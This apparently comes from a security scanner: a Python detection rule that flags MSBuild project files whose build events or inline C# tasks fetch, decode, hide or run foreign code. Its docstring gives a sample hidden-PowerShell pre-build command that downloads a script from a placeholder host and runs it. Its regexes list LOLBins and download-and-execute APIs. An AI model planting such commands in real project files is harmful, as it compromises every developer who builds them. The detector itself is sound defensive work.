"""What it sees
    MSBuild projects (`.csproj`, `.vcxproj`, `.targets`, `.props`, ...) whose build events, `Exec` tasks or inline tasks
    download code and run it, decode it, hide it or load it into memory.

Why it matters
    Building the project is enough, and an editor evaluates projects as it opens them. Project files look like
    configuration, and nobody reads what stands between their tags.

Example
    <PreBuildEvent>powershell -w hidden -c "iwr https://files.example.test/a | iex"</PreBuildEvent>

What to do
    Do not open it in an editor that builds, and do not build it.

False alarms
    Builds call compilers, generators and package managers: not reported. Plain downloads with nothing to hide are
    reported with less confidence.

References
    ATT&CK T1127.001 (MSBuild), T1195.001, T1105.
"""

import html
import re
from collections.abc import Iterator

from lazaretto.detect.commands import uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.shell import analyse
from lazaretto.parse.text import is_test
from lazaretto.parse.views import TextFile

_INLINE = N_("builds and runs C# code within the project file: {what}")

_SUFFIXES = frozenset({".csproj", ".vbproj", ".fsproj", ".vcxproj", ".proj", ".targets", ".props", ".user", ".sln"})
_EXEC = re.compile(
    rb"<Exec\b[^>]{0,400}?\bCommand\s{0,8}=\s{0,8}(?:\"([^\"]{1,8000})\"|'([^']{1,8000})')", re.IGNORECASE
)
_EVENT = re.compile(
    rb"<(?:PreBuildEvent|PostBuildEvent|PreLinkEvent|Command)\b[^>]{0,200}>([^<]{1,8000})<", re.IGNORECASE
)
_CODE = re.compile(rb"<Code\b[^>]{0,200}>(.{1,200000}?)</Code>", re.IGNORECASE | re.DOTALL)
_HIDES = re.compile(
    r"-w(?:indowstyle)?\s+hidden|-e(?:nc|c)\w*\s|bypass|%te?mp%|\$env:te?mp|rundll32|mshta|certutil|bitsadmin|regsvr32|FromBase64",
    re.IGNORECASE,
)
_FETCHES = re.compile(
    rb"WebClient|HttpClient|WebRequest|DownloadFile|DownloadString|DownloadData|TcpClient|FromBase64String|AesManaged|Aes\.Create"
)
_RUNS = re.compile(rb"Process\.Start|Assembly\.Load|VirtualAlloc|CreateThread|DllImport|Invoke\(|powershell|cmd\.exe")


def check(view: TextFile) -> Iterator[Match]:
    """Yield the dangerous commands of a project file, and inline tasks that fetch and run."""
    if view.blob.suffix not in _SUFFIXES:
        return
    data = view.blob.data[: 2 << 20]
    for pattern in (_EXEC, _EVENT):
        for found in pattern.finditer(data):
            text = html.unescape(next(part for part in found.groups() if part).decode("utf-8", "replace"))
            danger = uninvited(analyse(text))
            if danger is None or danger.severity < Severity.HIGH:
                continue
            sighting = danger.match(view.blob.name, view.blob.position(found.start())[0], text, Phase.BUILD)
            yield Match(
                sighting.message,
                line=sighting.line,
                params=sighting.params,
                excerpt=sighting.excerpt,
                severity=Severity.LOW if is_test(view.path) else danger.severity,
                confidence=danger.confidence if _HIDES.search(text) else Confidence.MEDIUM,
                phase=Phase.BUILD,
            )
    for found in _CODE.finditer(data):
        fetches, runs = _FETCHES.search(found[1]), _RUNS.search(found[1])
        if fetches and runs:
            yield Match(
                _INLINE,
                line=view.blob.position(found.start())[0],
                params={"what": f"{fetches[0].decode()}, {runs[0].decode()}"},
                severity=Severity.LOW if is_test(view.path) else Severity.HIGH,
                confidence=Confidence.HIGH,
                phase=Phase.BUILD,
            )
            return


RULE = Rule(
    id="repo/build-project-command",
    title=N_("A project file runs foreign code when it is built"),
    view=TextFile,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.BUILD,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1127.001", "T1105"),
    needles=(b"<exec", b"buildevent>", b"prelinkevent>", b"<code", b"<command"),
    fold_case=True,
)
